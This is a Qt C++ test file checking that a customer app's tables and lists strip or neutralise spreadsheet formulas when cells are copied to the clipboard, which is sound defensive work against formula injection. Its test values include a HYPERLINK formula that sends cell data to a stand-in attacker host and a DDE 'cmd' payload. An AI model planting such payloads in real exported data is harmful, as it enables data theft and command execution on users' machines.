#include "models/formats/copied.h"
#include "tests/support/testdata.h"
#include "tests/ui/customer/example.h"
#include "ui/forms/copyguard.h"
#include "ui/forms/plaintable.h"
#include "ui/look/look.h"
#include "ui/page/customertable.h"

#include <QApplication>
#include <QClipboard>
#include <QDirIterator>
#include <QListWidget>
#include <QRegularExpression>
#include <QStandardItemModel>
#include <QTableWidget>
#include <QTest>

using namespace lineside;
using namespace lineside::test;

namespace {

const QString formula = u"=HYPERLINK(\"http://evil.example/?\"&A1)"_s;
const QString harmless = u'\'' + formula;

QString copied() {
    return QGuiApplication::clipboard()->text();
}

QString copyOf(QAbstractItemView& view) {
    QGuiApplication::clipboard()->setText(u"before"_s);
    QTest::keySequence(&view, QKeySequence::Copy);
    return copied();
}

/// All matches in the sources of ui, as "file" and how often.
QMap<QString, int> inSources(const QString& pattern) {
    const QRegularExpression expression(pattern);
    const QDir root(dataPath(u"../../ui"_s));
    QMap<QString, int> found;
    QDirIterator files(root.path(), {u"*.cpp"_s, u"*.h"_s, u"*.ui"_s}, QDir::Files,
                       QDirIterator::Subdirectories);
    while (files.hasNext()) {
        QFile file(files.next());
        if (!file.open(QIODevice::ReadOnly))
            qFatal("can't read the sources");
        const QString text = QString::fromUtf8(file.readAll());
        for (auto all = expression.globalMatch(text); all.hasNext(); all.next())
            ++found[root.relativeFilePath(file.fileName())];
    }
    return found;
}

} // namespace

/// What a table gives to the clipboard is the same cells for a person and no formula for a spreadsheet.
class TestTableCopies : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { m_look = std::make_unique<look::Look>(*qApp); }
    void cells_data();
    void cells();
    void rows();
    void tables();
    void viewsOfQt();
    void everyTableOfACustomer();
    void thereIsNoOtherWay();

private:
    /// One row of three cells, all of them chosen.
    static void fill(QAbstractItemModel& model) {
        const QStringList texts{formula, u"two\tthings\r\nin one"_s, u"-12.50"_s};
        for (int column = 0; column < 3; ++column)
            model.setData(model.index(0, column), texts.at(column));
    }
    static inline const QString chosen = harmless + u"\ttwo things in one\t-12.50"_s;
    std::unique_ptr<look::Look> m_look;
};

void TestTableCopies::cells_data() {
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("cell");
    const auto row = [](const char* name, const QString& value, const QString& cell) {
        QTest::newRow(name) << value << cell;
    };
    row("text", u"Rosa Delgado"_s, u"Rosa Delgado"_s);
    row("empty", QString(), QString());
    row("equals", u"=1+1"_s, u"'=1+1"_s);
    row("plus", u"+1 (850) 555-0101"_s, u"'+1 (850) 555-0101"_s);
    row("minus", u"-1+cmd|' /C calc'!A0"_s, u"'-1+cmd|' /C calc'!A0"_s);
    row("at", u"@SUM(A1:A9)"_s, u"'@SUM(A1:A9)"_s);
    row("full-width equals", u"\uFF1D1+1"_s, u"'\uFF1D1+1"_s);
    row("full-width at", u"\uFF20SUM(1)"_s, u"'\uFF20SUM(1)"_s);
    row("a tab before", u"\t=1"_s, u"' =1"_s);
    row("a tab before text", u"\tRosa"_s, u"' Rosa"_s);
    row("CR before", u"\rRosa"_s, u"' Rosa"_s);
    row("a space before", u"  =1"_s, u"'  =1"_s);
    row("a no-break space before", u"\u00A0=1"_s, u"'\u00A0=1"_s);
    row("what shows nothing before", u"\u200B=1"_s, u"'\u200B=1"_s);
    row("a control before", u"\001=1"_s, u"' =1"_s);
    row("amount", u"-12.50"_s, u"-12.50"_s);
    row("amount, grouped", u"-1,234.50"_s, u"-1,234.50"_s);
    row("amount, whole", u"-3"_s, u"-3"_s);
    row("no amount", u"-12.50-1"_s, u"'-12.50-1"_s);
    row("no amount either", u"-12.50*A1"_s, u"'-12.50*A1"_s);
    row("tabs and ends of lines", u"a\tb\nc\r\nd\re\u2028f"_s, u"a b c d e f"_s);
    row("controls", u"a\000b\033c\205d"_s, u"a b c d"_s);
    row("inside", u"1=1 -2 @home +3"_s, u"1=1 -2 @home +3"_s);
    row("an address", u"rosa@example.com"_s, u"rosa@example.com"_s);
    row("an apostrophe", u"'t Hooft"_s, u"'t Hooft"_s);
    row("beyond the first plane", u"\U0001F600 =1"_s, u"\U0001F600 =1"_s);
}

void TestTableCopies::cells() {
    QFETCH(QString, value);
    QFETCH(QString, cell);
    QCOMPARE(copiedCell(value), cell);
    QCOMPARE(copiedCell(copiedCell(value)), cell);
}

void TestTableCopies::rows() {
    QCOMPARE(copiedTable({{u"a\tb"_s, u"=c"_s}, {u"d"_s, QString()}}), u"a b\t'=c\nd\t"_s);
}

void TestTableCopies::tables() {
    QStandardItemModel model(1, 3);
    fill(model);
    PlainTable plain;
    CustomerTable customers;
    for (PlainTable* table : {&plain, static_cast<PlainTable*>(&customers)}) {
        table->setModel(&model);
        table->selectRow(0);
        QCOMPARE(copyOf(*table), chosen);
    }
}

void TestTableCopies::viewsOfQt() {
    CopyGuard guard;
    qApp->installEventFilter(&guard);
    QTableWidget table(1, 3);
    fill(*table.model());
    table.setCurrentCell(0, 0);
    QCOMPARE(copyOf(table), harmless);
    table.setCurrentCell(0, 1);
    QCOMPARE(copyOf(table), u"two things in one"_s);
    QListWidget list;
    list.addItem(formula);
    list.setCurrentRow(0);
    QCOMPARE(copyOf(list), harmless);
    QCOMPARE(copyOf(*std::make_unique<QListWidget>()), u"before"_s); // nothing is at hand
}

/// With values that a customer may have given themselves.
void TestTableCopies::everyTableOfACustomer() {
    Record record = test::rosa();
    Rows services;
    for (const QString& name : {u"ID"_s, u"TN"_s, u"Status"_s, u"PackageName"_s})
        services.addColumn(name);
    services.beginRow();
    for (int column = 0; column < 4; ++column)
        services.add(column, State::Set, formula);
    record.setRows("Customer/Services"_group, services);
    record.setRows("Customer/TaxExemptions"_group, Rows::ofTexts({formula, u"a\tb"_s}));
    record.addExtra(u"Customer/LoyaltyTier"_s, Value(formula));
    LookUpDesk desk;
    CustomerPage page(desk, nullptr, exampleContext(), record);
    page.show();
    for (int i = 0; i < PageStack::PageCount; ++i)
        page.showPage(PageStack::Page(i));
    int seen = 0;
    for (auto* table : page.findChildren<PlainTable*>()) {
        table->selectAll();
        for (const QString& line : table->selectedText().split(u'\n', Qt::SkipEmptyParts)) {
            for (const QString& cell : line.split(u'\t')) {
                QVERIFY2(!cell.startsWith(u'='), qPrintable(cell));
                seen += cell == harmless ? 1 : 0;
            }
        }
    }
    QVERIFY2(seen >= 5, qPrintable(QString::number(seen)));
}

/// Whatever else puts something into the clipboard is here with its reason, and so is each table of another
/// kind.
void TestTableCopies::thereIsNoOtherWay() {
    const QMap<QString, int> writers{
        {u"fields/sight.cpp"_s, 1},              // marks a copy as secret
        {u"forms/copyguard.cpp"_s, 1},           // the cell at hand, of lists and tables of Qt's own
        {u"forms/plaintable.cpp"_s, 1},          // what is chosen of a table
        {u"ordersend/orderresultpage.cpp"_s, 1}, // lines, each a copiedCell()
        {u"outgoing/xmlview.cpp"_s, 1},          // the request, byte for byte
        {u"quote/quotepanel.cpp"_s, 1}};         // the quote, each part a copiedCell()
    QCOMPARE(inSources(uR"(clipboard(\(\))?->set\w+\()"_s), writers);
    const QMap<QString, int> views{{u"forms/plaintable.h"_s, 1}, {u"settings/overridestable.cpp"_s, 1}};
    QCOMPARE(inSources(uR"((public|new|extends>)\s*Q(Table|Tree|Column)(View|Widget)\b)"_s), views);
}

QTEST_MAIN(TestTableCopies)
#include "tst_tablecopies.moc"
